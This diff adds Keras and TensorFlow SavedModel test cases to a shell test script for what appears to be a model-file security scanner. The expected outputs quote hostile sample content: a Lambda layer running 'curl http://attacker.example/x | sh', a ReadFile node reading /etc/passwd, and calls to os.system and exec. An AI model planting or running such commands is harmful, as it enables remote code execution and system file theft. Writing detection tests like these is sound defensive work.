@@ -280,6 +280,55 @@ expect_output_contains "process-execution"
 expect_exit 1 -- --format json "$S/torch/hostile/nested_zip.pt"
 expect_output_contains '"chain"'
 
+# --- Keras ------------------------------------------------------------------------------------
+
+echo "# keras"
+K=$MSCAN_SOURCE_DIR/samples/keras
+# Benign .h5 (old and new HDF5 layouts), .keras and JSON configs pass; a directory of them too.
+expect_exit 0 -- "$K/benign"
+expect_output_contains "Scanned 7 files"
+# A Lambda's decoded bytecode is the evidence; what it calls is judged by the global rules.
+expect_exit 1 -- "$K/hostile/lambda_os_system.h5"
+expect_output_contains "keras-lambda-layer"
+expect_output_contains "'curl http://attacker.example/x | sh'"
+expect_output_contains "Loading calls os.system"
+# Inside a .keras archive, findings name config.json and the path to the nested layer.
+expect_exit 1 -- "$K/hostile/nested_lambda.keras"
+expect_output_contains "nested_lambda.keras!/config.json (Keras config: config.layers[0]"
+# A function reference in an initializer (CVE-2025-1550 shape) fails the gate at critical.
+expect_exit 1 -- --fail-on critical "$K/hostile/initializer_exec.keras"
+expect_output_contains "Loading calls builtins.exec"
+# A truncated HDF5 file is "could not verify", never a pass.
+expect_exit 1 -- "$K/anomaly/truncated.h5"
+expect_output_contains "hdf5-unverified"
+# The same file under another name is still read by content.
+cp "$K/hostile/lambda_os_system.h5" weights.bin
+expect_exit 1 -- weights.bin
+expect_output_contains "[hdf5,"
+
+# --- TensorFlow SavedModel ------------------------------------------------------------------
+
+echo "# savedmodel"
+T=$MSCAN_SOURCE_DIR/samples/savedmodel
+# A SavedModel directory as TensorFlow writes it passes: the saver's SaveV2/RestoreV2 are not
+# findings, and variables/ holds data only.
+expect_exit 0 -- "$T/benign/tf2_dense"
+expect_output_contains "Scanned 1 file"
+expect_exit 0 -- "$T/benign/tf1_saver" "$T/benign/tf1_text" "$T/benign/keras_dense"
+# Hostile directories fail the gate, with the rule and the node in the output.
+expect_exit 1 -- "$T/hostile/readfile"
+expect_output_contains "tf-file-access"
+expect_output_contains "node 'ReadFile' op ReadFile input 'secret_path' = \"/etc/passwd\""
+expect_exit 1 -- --fail-on critical "$T/hostile/eager_pyfunc_in_function"
+expect_output_contains "tf-python-call"
+expect_output_contains "(meta graph 0 function __inference_call_90)"
+expect_exit 1 -- "$T/hostile/keras_lambda"
+expect_output_contains "keras-lambda-layer"
+# The same saved_model.pb under another name is still read by content.
+cp "$T/hostile/pyfunc/saved_model.pb" graph.bin
+expect_exit 1 -- graph.bin
+expect_output_contains "[savedmodel,"
+
 # --- deterministic output -------------------------------------------------------------------
 
 echo "# determinism"
